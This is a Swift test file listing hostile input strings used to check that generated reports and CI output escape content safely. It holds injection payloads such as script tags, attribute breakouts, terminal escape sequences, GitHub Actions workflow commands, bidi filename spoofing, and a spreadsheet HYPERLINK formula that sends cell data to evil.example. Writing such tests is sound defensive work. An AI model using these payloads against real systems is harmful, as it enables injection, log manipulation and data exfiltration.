import Testing

/// A text of a filing that would be something else where a report did not write it as text.
struct HostileText: Sendable, CustomTestStringConvertible {
  let testDescription: String
  let text: String
  /// A text that a filing is judged by in the same way, and that is nothing else anywhere.
  let harmless: String

  private init(_ name: String, _ text: String, like harmless: String = "harmless") {
    (testDescription, self.text, self.harmless) = (name, text, harmless)
  }

  static let all = [
    HostileText("tags", "x</bdi></td></failure></testsuite><script>alert(x)</script><img src=x>"),
    HostileText("attributes", "\" onload=\"alert(x)\" ' onload='alert(x)' name=x>"),
    HostileText("entities", "&lt;b&gt;&#60;script&#62;&amp;&nbsp;&#0;"),
    HostileText("the end of a section", "]]><![CDATA[<x>]]>"),
    HostileText("a comment", "--><!-- <?xml?> <!DOCTYPE x>"),
    HostileText(
      "control characters", "a\0\u{1}\u{7}\u{8}\u{B}\u{C}\u{7F}\u{9B}31m\u{85}\u{FFFE}\u{FFFF}b",
      like: "harm\u{1}less"),
    HostileText(
      "sequences of a terminal", "\u{1B}[31m\u{1B}]0;x\u{7}\u{1B}]8;;https://evil.example\u{1B}\\x",
      like: "harm\u{1}less"),
    HostileText("line ends", "one\r\ntwo\nthree\rfour\u{2028}five\u{2029}six\tseven"),
    HostileText("directions", "a\u{202E}gpj.exe\u{2066}b\u{200F}\u{2069}"),
    HostileText("a workflow command", "::error file=a.yaml,line=1::owned"),
    HostileText("workflow commands on lines", "x\n::add-mask::y\r\n::stop-commands::z"),
    HostileText(
      "workflow commands where lines wrap",
      (0..<40).map { String(repeating: "x", count: $0) + " ::error::y" }.joined(separator: " "),
      like: String(repeating: "harmless ", count: 100)),
    HostileText(
      "commands of other runners", "##[error]x ##vso[task.complete] ##teamcity[buildStop] ###[a]"),
    HostileText("what a command escapes", "%0A::error::x%0D%25%3A"),
    HostileText("properties of a command", "a,title=b:c,line=9"),
    HostileText("a formula", #"=HYPERLINK("http://evil.example/?"&A1,"click")"#),
    HostileText("a formula behind blanks", " \u{3000}@SUM(A1)"),
    HostileText("pipes", "a|b\\|c||\\\\|"),
    HostileText(
      "links", "[e](https://evil.example) ![f](g) <https://evil.example> www.evil.example @a #1"),
    HostileText("fences", "````\n```\n</details>\n# h\n~~~ *a* _b_ `c` $d$"),
    HostileText("placeholders", "{0} {{1}} }{ %@ ${x} $name \\n \\"),
    HostileText("cells", "\"a\",\"b\"\r\nfinding,x;\ty"),
    HostileText("a command to a bot", "/close"),
    HostileText(
      "a long text", String(repeating: "长<|`\"", count: 400),
      like: String(repeating: "harmless ", count: 100)),
  ]
}
